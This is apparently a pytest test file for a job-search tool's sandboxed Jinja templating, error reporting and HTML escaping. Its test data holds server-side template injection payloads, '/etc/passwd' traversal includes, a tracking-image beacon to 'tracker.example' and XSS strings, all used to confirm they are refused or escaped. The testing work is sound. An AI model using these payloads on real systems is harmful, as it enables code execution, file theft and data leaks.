"""The one template environment: sandboxed, workspace copies first, errors by file and line."""

from __future__ import annotations

import datetime as dt

import pytest

from helpers import drafts, report, research_note, templating
from helpers.errors import WorkspaceError
from helpers.profile import load_profile
from helpers.proof_of_search import export_proof_of_search

NORTHWIND = "northwind-analytics-data-analyst"
TODAY = dt.date(2026, 11, 25)

HOSTILE = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{{ joiner.__init__.__globals__.os }}",
    "{{ app.__class__ }}",
]


def _workspace_template(ws, name: str, text: str) -> None:
    folder = ws.root / "templates"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")


@pytest.mark.parametrize("body", HOSTILE)
def test_a_hostile_note_template_is_refused_naming_its_file(example_ws, body):
    _workspace_template(example_ws, research_note.NOTE_TEMPLATE, f"# Note\n\n{body}\n")
    with pytest.raises(WorkspaceError) as caught:
        research_note.write_notes(example_ws, NORTHWIND)
    message = str(caught.value)
    assert "templates/research_note.md.j2" in message
    assert "not allowed in a template" in message
    assert "subclasses" not in message.split("not allowed")[0]
    assert not (example_ws.root / "notes" / f"{NORTHWIND}.md").exists()


@pytest.mark.parametrize("body", HOSTILE)
def test_a_hostile_draft_template_is_refused_naming_its_file(empty_ws, body):
    _workspace_template(empty_ws, "thank_you.md.j2", f"Subject: Thanks\n\n{body}\n")
    with pytest.raises(WorkspaceError, match=r"templates/thank_you\.md\.j2.*not allowed"):
        drafts.render(empty_ws.root, "thank_you.md.j2", app={}, person={})


def test_notes_and_drafts_share_one_sandboxed_environment(empty_ws):
    env = templating.environment(empty_ws.root)
    assert env.is_safe_attribute is not None and env.sandboxed
    assert templating.environment(empty_ws.root) is env  # compiled once per run
    assert {"phrase", "sentence_end", "md", "source", "money"} <= set(env.filters)
    _workspace_template(empty_ws, "extra.md.j2", "x")
    assert templating.environment(empty_ws.root) is not env  # a new workspace file


def test_a_syntax_error_names_the_file_and_line(empty_ws):
    _workspace_template(empty_ws, research_note.NOTE_TEMPLATE, "# Note\n\n{% for x in %}\n")
    with pytest.raises(WorkspaceError, match=r"templates/research_note\.md\.j2.*line 3"):
        research_note.note_template(empty_ws)


def test_a_missing_variable_and_a_missing_include_name_the_template(empty_ws):
    _workspace_template(empty_ws, "mine.md.j2", "{{ nobody.name }}")
    loaded = templating.template(empty_ws.root, "mine.md.j2")
    with pytest.raises(WorkspaceError, match=r"templates/mine\.md\.j2.*'nobody' is undefined"):
        templating.render(loaded)
    _workspace_template(empty_ws, "inc.md.j2", "{% include 'absent.md.j2' %}")
    with pytest.raises(WorkspaceError, match=r"templates/inc\.md\.j2.*includes 'absent\.md\.j2'"):
        templating.render(templating.template(empty_ws.root, "inc.md.j2"))


def test_the_workspace_copy_wins_and_shipped_templates_remain(empty_ws):
    shipped = templating.template(empty_ws.root, "thank_you.md.j2")
    assert shipped.filename.startswith(str(templating.TEMPLATES_DIR))
    _workspace_template(empty_ws, "thank_you.md.j2", "Subject: Mine\n\nHello {{ 'x' | md }}\n")
    mine = templating.template(empty_ws.root, "thank_you.md.j2")
    assert mine.filename.startswith(str(empty_ws.root))
    assert templating.render(mine) == "Subject: Mine\n\nHello x"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**bold** _it_ `code`", r"\*\*bold\*\* \_it\_ \`code\`"),
        ("# not a heading", r"\# not a heading"),
        ("1. not a list", r"\1. not a list"),
        ("<b>x</b>\n[link](y)", r"\<b\>x\</b\> \[link\](y)"),
        (None, ""),
    ],
)
def test_markdown_line_keeps_user_text_on_one_literal_line(text, expected):
    assert templating.markdown_line(text) == expected


def test_a_source_is_a_link_only_when_it_is_a_plain_web_address():
    assert templating.md_source(" https://example.com/a ") == "<https://example.com/a>"
    assert templating.md_source("https://example.com/<x>") != "<https://example.com/<x>>"
    assert templating.md_source("a friend") == "a friend"


REPORT_OVERRIDE = """<html><body>OVERRIDDEN
{{ ''.__class__.__mro__[1].__subclasses__() }}
{% include '/etc/passwd' %}{% include '../../../../etc/passwd' %}
<img src="https://tracker.example/?{{ who }}"></body></html>"""


@pytest.mark.parametrize("name", ["report.html.j2", "report_summary.html.j2"])
def test_a_workspace_copy_of_the_report_is_never_used(example_ws, name):
    """The report goes to a coach, redacted, under a policy forbidding scripts and
    fetches: its templates are the workbook's own, whatever the workspace holds."""
    _workspace_template(example_ws, name, REPORT_OVERRIDE)
    page = report.build_report(example_ws, TODAY)
    assert "OVERRIDDEN" not in page and "tracker.example" not in page
    assert "subclasses" not in page and "root:" not in page
    assert "Content-Security-Policy" in page and "<h2>Summary</h2>" in page
    assert templating.template(example_ws.root, name).filename == str(
        templating.TEMPLATES_DIR / name
    )
    workspace_loader = templating.environment(example_ws.root).loader.loaders[0]
    assert name not in workspace_loader.list_templates()


def test_a_workspace_html_template_of_any_name_is_not_found(example_ws):
    _workspace_template(example_ws, "mine.html.j2", REPORT_OVERRIDE)
    with pytest.raises(WorkspaceError, match="not a template"):
        templating.render(
            templating.template(example_ws.root, "thank_you.md.j2").environment.from_string(
                "{% include 'mine.html.j2' %}"
            )
        )


@pytest.mark.parametrize("body", HOSTILE)
def test_html_templates_are_sandboxed_too(body):
    env = templating.shipped("report.html.j2").environment
    with pytest.raises(WorkspaceError, match="not allowed in a template"):
        templating.render(env.from_string(body, globals={"app": {}}))


def test_html_templates_escape_every_value_and_text_templates_do_not():
    page = templating.render(templating.shipped("report_summary.html.j2"), **SUMMARY)
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert '<li class="flag">&lt;img src=x onerror=&#34;x&#34;&gt;</li>' in page
    assert "&lt;b&gt;first&lt;/b&gt;" in page
    env = templating.shipped("report.html.j2").environment
    assert env.from_string("{{ x }}").render(x="<b>") == "<b>"  # drafts, notes: plain text


SUMMARY = {
    "standing": "<script>alert(1)</script>",
    "message": "",
    "week": "w",
    "since": None,
    "changes": None,
    "actions": [],
    "flags": ['<img src=x onerror="x">'],
    "funnel": "",
    "level": 2,
    "before": "the last report",
    "first": "<b>first</b>",
    "anchor": "summary",
}


def test_a_workspace_copy_of_the_proof_of_search_is_never_used(example_ws):
    _workspace_template(example_ws, "proof_of_search.html.j2", REPORT_OVERRIDE)
    tables = example_ws.load_all()
    html_file = export_proof_of_search(example_ws, tables, load_profile(example_ws), TODAY)[1]
    page = html_file.read_text(encoding="utf-8")
    assert "OVERRIDDEN" not in page and "tracker.example" not in page
    assert "<h1>Proof of job search</h1>" in page and "<th>Stage history</th>" in page
